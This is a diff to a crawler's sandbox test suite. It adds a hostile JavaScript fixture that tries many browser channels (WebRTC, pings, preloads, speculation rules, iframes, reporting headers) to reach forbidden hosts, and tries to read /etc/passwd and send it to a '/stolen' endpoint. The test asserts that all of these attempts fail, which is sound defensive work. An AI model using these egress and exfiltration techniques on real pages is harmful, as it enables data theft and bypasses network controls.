@@ -64,6 +64,50 @@ fetch('/wait');
 """
 
 
+STRANGER_WAYS = """
+const ways = %s;
+const quietly = (way) => { try { const it = way(); if (it && it.catch) it.catch(() => {}); } catch (error) {} };
+const add = (name, members) => document.body.appendChild(Object.assign(document.createElement(name), members));
+for (const to of ways) {
+  quietly(() => {
+    const turn = {urls: `turn:${to}?transport=tcp`, username: 'a', credential: 'a'};
+    const peer = new RTCPeerConnection({iceServers: [turn]});
+    peer.createDataChannel('x');
+    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+  });
+  quietly(() => new WebTransport(`https://${to}/transport`));
+  quietly(() => navigator.serviceWorker.register('/worker.js'));
+  quietly(() => new SharedWorker('/worker.js'));
+  quietly(() => import(`http://${to}/module.js`));
+  quietly(() => fetchLater(`http://${to}/later`, {activateAfter: 0}));
+  quietly(() => fetch(`https://${to}/tls`, {mode: 'no-cors', keepalive: true}));
+  quietly(() => new Image().src = `http://${to}/image`);
+  quietly(() => document.fonts.add(new FontFace('x', `url(http://${to}/font)`)) && document.fonts.load('1px x'));
+  quietly(() => add('a', {ping: `http://${to}/ping`, href: '#', target: '_self'}).click());
+  quietly(() => add('a', {download: 'x', target: '_blank', href: `http://${to}/download`}).click());
+  quietly(() => add('style', {textContent: `@import "http://${to}/style"; body {background: url(http://${to}/background)}`}));
+  for (const [name, where] of [['object', 'data'], ['embed', 'src'], ['video', 'src'], ['script', 'src']]) {
+    quietly(() => add(name, {[where]: `http://${to}/${name}`}));
+  }
+  quietly(() => add('iframe', {srcdoc: `<meta http-equiv="refresh" content="0;url=http://${to}/refresh">`}));
+  quietly(() => add('iframe', {srcdoc: `<iframe srcdoc="<img src='http://${to}/inner'>"></iframe>`}));
+  for (const what of ['prefetch', 'prerender']) {
+    const rules = JSON.stringify({[what]: [{source: 'list', urls: [`http://${to}/${what}`]}]});
+    quietly(() => add('script', {type: 'speculationrules', textContent: rules}));
+  }
+  for (const kind of ['preload', 'modulepreload', 'icon']) {
+    quietly(() => document.head.appendChild(Object.assign(document.createElement('link'), {rel: kind, href: `http://${to}/`})));
+  }
+}
+for (const file of ['file:///etc/passwd', 'view-source:file:///etc/passwd', 'chrome://version', 'ftp://127.99.41.1/']) {
+  quietly(() => add('iframe', {src: file}));
+  quietly(() => fetch(file).then((got) => got.text()).then((text) => fetch('/stolen?' + encodeURIComponent(text))));
+  quietly(() => window.open(file));
+}
+fetch('/wait');
+"""
+
+
 class _Listener:
     """Counts who connects by TCP or sends by UDP to one address and port."""
 
@@ -114,13 +158,51 @@ def listeners(*hosts: str) -> Iterator[list[_Listener]]:
             one.close()
 
 
-def hostile(places: list[str]) -> Iterator[str]:
+def hostile(places: list[str], script: str = SCRIPT) -> Iterator[str]:
     """The two pages: a shell, and the script that tries every way out before it draws."""
     yield (
         '<html><head><meta charset="utf-8"><title>望溪区人民政府</title></head><body><div id="app"></div>'
         '<noscript>请启用 JavaScript</noscript><script src="/app.js"></script></body></html>'
     )
-    yield SCRIPT % places
+    yield script % places
+
+
+def _reporting(place: str) -> list[str]:
+    """Headers that have a browser send reports and ask for more by itself."""
+    return [
+        f"Content-Security-Policy-Report-Only: default-src 'none'; report-uri http://{place}/csp; report-to there",
+        f'Reporting-Endpoints: there="https://{place}/reports"',
+        'NEL: {"report_to": "there", "max_age": 1000, "success_fraction": 1}',
+        f'Report-To: {{"group": "there", "max_age": 1000, "endpoints": [{{"url": "https://{place}/to"}}]}}',
+        f"Link: <http://{place}/early>; rel=preload; as=script, <http://{place}>; rel=preconnect",
+        f"Refresh: 60; url=http://{place}/refresh",
+    ]
+
+
+def test_neither_reports_workers_pings_downloads_nor_other_schemes_reach_anything(tmp_path: Path) -> None:
+    with listeners(FORBIDDEN, NEIGHBOUR) as forbidden:
+        shell, script = hostile([one.place for one in forbidden], STRANGER_WAYS)
+
+        def answer(hit: Hit, times: int) -> Wire:
+            match hit.path.partition("?")[0]:
+                case "/":
+                    return reply(shell, headers=_reporting(forbidden[0].place))
+                case "/app.js":
+                    return reply(script, kind="application/javascript; charset=utf-8")
+                case "/worker.js":
+                    worker = f"fetch('http://{forbidden[0].place}/worker', {{mode: 'no-cors'}})"
+                    return reply(worker, kind="application/javascript")
+                case "/wait":
+                    return Wire(reply("").chunks, before=1.6)
+            return SOUND(hit, times)
+
+        with FaultServer({HOST: answer}) as server:
+            crawl([seed(server.url(HOST), "X-1")], tmp_path, DOWNLOAD_TIMEOUT=20, **browser.settings())
+            paths = {hit.path for hit in server.hits(HOST)}
+        reached = {one.place: one.hits for one in forbidden}
+    assert not any(reached.values()), reached
+    assert {"/app.js", "/wait"} <= paths, "the script did not run"
+    assert not [path for path in paths if path.startswith("/stolen")]
 
 
 def test_a_page_reaches_nothing_but_its_portal_and_that_within_the_guard(tmp_path: Path) -> None:
